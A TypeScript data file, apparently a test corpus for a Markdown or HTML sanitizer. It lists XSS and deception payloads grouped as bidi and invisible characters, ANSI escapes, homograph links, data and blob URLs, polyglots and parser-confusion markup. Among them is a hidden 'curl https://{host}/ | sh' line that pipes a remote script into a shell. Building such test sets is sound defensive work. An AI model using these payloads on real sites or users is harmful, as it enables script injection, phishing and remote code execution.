import type { Carrier } from './carrier.ts'

/** What deceives the eye or another program, and texts that are several things at once. */
export const characters: readonly Carrier[] = [
  {
    name: 'bidi characters',
    payloads: [
      'photo\u202Egnp.exe <img src=x onerror={js}>',
      '[\u202Emoc.elgoog](https://{host}/)',
      '\u2066<script>\u2069{js}\u2066</script>\u2069',
      '```js\nif (a\u202E \u2066// x\u2069 \u2066) {js}\n```',
      '# \u202Dtitle\u202C <svg onload={js}>',
      '[x](https://{host}/\u202Egpj.exe)',
      '\u200F\u200E\u061C<b onclick={js}>x</b>',
    ],
  },
  {
    name: 'invisible characters',
    payloads: [
      '<\u200Bscript>{js}</script>',
      '<script\u0000>{js}</script>',
      '[x](java\u200Bscript:{js})',
      '[x](java\u00ADscript:{js})',
      'goo\u200Bgle.com \uFEFF<img\u2060src=x\u2063onerror={js}>',
      '```sh\ncurl https://{host}/\u200B | sh\u2064\n```',
      'x\u{E0001}\u{E0068}\u{E0069}<script>{js}</script>',
      '[https://example.com](https://{host}/\u3164)',
      '<\u0000img src=x\u000Conerror={js}>',
    ],
  },
  {
    name: 'ANSI',
    payloads: [
      '\u001B[31m<script>{js}</script>\u001B[0m',
      '\u001B]8;;https://{host}/\u0007x\u001B]8;;\u0007',
      '```sh\necho a\u001B[2K\u001B[1Aevil\n```',
      '\u009B31m<img src=x onerror={js}>',
      '```\n\u001B]52;c;e2pzfQ==\u0007\n```',
      '`\u001B[8mcurl {host}\u001B[0m`\u0008\u0008',
      '\u0090q{js}\u009C\u001B]0;<script>{js}</script>\u0007',
    ],
  },
  {
    name: 'homograph links',
    payloads: [
      '[https://google.com](https://g\u043E\u043Egle.{host}/)',
      'https://\u0430pple.{host}/',
      '[paypal.com](https://paypal.com@{host}/)',
      '[x](https://google.com\u2044.{host}/)',
      '<https://\uFF47oogle\u3002{host}/>',
      '[https://example.com/](https://{host}/"onclick="{js})',
      '[x](https://example.com%2F@{host}/)',
      '[x](https://{host}\\@example.com/)',
    ],
  },
  {
    name: 'data and blob URLs',
    payloads: [
      '[x](data:text/html,<script>{js}</script>)',
      '[x](data:text/html;base64,PHNjcmlwdD48L3NjcmlwdD4=)',
      '![x](data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><script>{js}</script></svg>)',
      '[x](blob:https://{host}/0)',
      '<object data="data:text/html,<script>{js}</script>"></object>',
      '<iframe src="blob:null/1"></iframe>',
      '[x](filesystem:https://{host}/temporary/a)',
      '<data:text/html;charset=utf-7,+ADw-script+AD4-{js}+ADw-/script+AD4->',
    ],
  },
  {
    name: 'polyglots',
    payloads: [
      'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk={js} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={js}//>',
      '"><svg/onload={js}>\'"`--><script>{js}</script>',
      '\';{js}//\\\';{js}//";{js}//\\";{js}//--></SCRIPT>">\'><SCRIPT>{js}</SCRIPT>',
      '<img src="x` `<script>{js}</script>"` `>',
      '</textarea></title></style></noscript></script><svg onload={js}>',
      '[<img/src=x/onerror={js}>`](javascript:{js}"onmouseover="{js})`',
      '> - 1. | a |\n> |---|\n> | <script>{js}</script> [x](javascript:{js}) |',
      '**<script>*{js}*</script>** ~~[x](java~~script:{js})',
      '{{constructor.constructor("{js}")()}} ${{js}} #{{js}} <%= {js} %>',
    ],
  },
  {
    name: 'parser confusion',
    payloads: [
      '<math><style><img src=x onerror={js}></style></math>',
      '`<img title="`"><img src=x onerror={js}>">`',
      '*<p title="*"><script>{js}</script>',
      '<svg><p><style><g title="</style><img src=x onerror={js}>">',
      '[a](<b)c>"onerror={js}"<d>)',
      '&lt;script&gt;{js}&lt;/script&gt;',
      '&#60;img src=x onerror={js}&#62;',
      '\\<script\\>{js}\\</script\\>',
      '<a href="x\n\n"><script>{js}</script>',
      '<select><option><style></option></select><img src=x onerror={js}>',
    ],
  },
]
